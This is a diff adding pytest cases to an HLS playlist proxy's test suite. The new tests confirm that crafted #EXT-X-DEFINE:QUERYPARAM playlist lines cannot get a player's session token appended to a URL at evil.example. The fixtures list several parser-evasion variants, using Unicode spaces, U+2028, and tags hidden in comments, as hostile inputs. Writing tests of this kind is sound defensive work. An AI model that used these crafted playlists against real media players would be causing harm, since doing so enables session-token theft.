@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 from urllib.parse import quote
 
@@ -130,6 +131,47 @@ def test_a_playlist_cannot_make_a_player_carry_its_token_away(
     body = service.get(f"/api?url={url}&token={token['X-Session-Token']}").body.decode()
     assert "{$" not in body
     assert all(line.startswith(("#", "/play/")) for line in body.splitlines())
+
+
+@pytest.mark.parametrize(
+    "define",
+    [
+        '#EXT-X-DEFINE:QUERYPARAM="token"',
+        '# a #EXT-X-DEFINE:QUERYPARAM="token"',
+        '#EXT-X-DEFINE:A="b",QUERYPARAM ="token"',
+        '#EXT-X-DEFINE:\ufeffQUERYPARAM\u3000="token"',
+        "#EXT-X-DEFINE:QUERYPARAM=token",
+        "#EXT-X-DEFINE:QUERYPARAM=token\u2028",
+        '#EXT-X-DEFINE:NAME="x",VALUE="tok"\n#EXT-X-DEFINE:QUERYPARAM="{$x}en"',
+    ],
+)
+def test_no_variable_is_ever_a_players_token(
+    service: Service, origin: Origin, token: dict[str, str], define: str
+) -> None:
+    """hls.js takes for a reference what follows a duration without a comma, U+2028, or a tag within a comment."""
+    origin.scripts["/v/lure.m3u8"] = answer(f"#EXTM3U\n{define}\n#EXTINF:4 https://evil.example/\n".encode(), 200)
+    url = quote(f"{origin.url}/v/lure.m3u8", safe="")
+    for address in (
+        f"/api?url={url}&token={token['X-Session-Token']}",
+        f"/api?token={token['X-Session-Token']}&url={url}",
+    ):
+        body = service.get(address).body.decode()
+        assert "QUERYPARAM" in body
+        assert not re.search(r"QUERYPARAM.*(token|\{\$)", body)
+
+
+def test_a_token_of_the_origins_own_is_a_variable_like_any_other(
+    service: Service, origin: Origin, token: dict[str, str]
+) -> None:
+    text = b'#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="token"\n#EXTINF:4,\n{$token}.ts\n'
+    origin.scripts["/v/own.m3u8"] = answer(text, 200, Content_Type=HLS)
+    address = f"{origin.url}/v/own.m3u8?token=abc"
+    by_api = lines(service, f"/api?url={quote(address, safe='')}&token={token['X-Session-Token']}")
+    assert by_api[1] == '#EXT-X-DEFINE:NAME="token",VALUE="abc"'
+    by_grant = lines(service, granted(service, address, service.add_key("own", "standard")))
+    assert by_grant[1] == '#EXT-X-DEFINE:QUERYPARAM="token"'
+    assert by_api[3].endswith("/abc.ts")
+    assert by_grant[3].endswith("/abc.ts")
 
 
 SHAPED = """#EXTM3U
